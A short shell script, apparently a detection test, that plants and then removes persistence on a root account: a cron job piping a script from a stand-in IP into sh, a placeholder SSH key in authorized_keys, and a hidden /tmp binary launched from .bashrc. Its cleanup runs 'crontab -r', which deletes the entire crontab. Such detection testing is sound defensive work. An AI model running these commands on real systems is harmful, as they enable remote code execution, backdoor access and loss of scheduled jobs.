#!/bin/sh
. /opt/case/case.sh

echo '* * * * * curl -s http://203.0.113.10/x | sh' | crontab -
printf 'ssh-ed25519 AAAAbait x\n' >>/root/.ssh/authorized_keys
printf '/tmp/.x &\n' >>/root/.bashrc
sleep 1
crontab -r
sed -i '/AAAAbait/d' /root/.ssh/authorized_keys
perl -ni -e 'print unless m{/tmp/.x}' /root/.bashrc
test ! -s /root/.ssh/authorized_keys
took_place
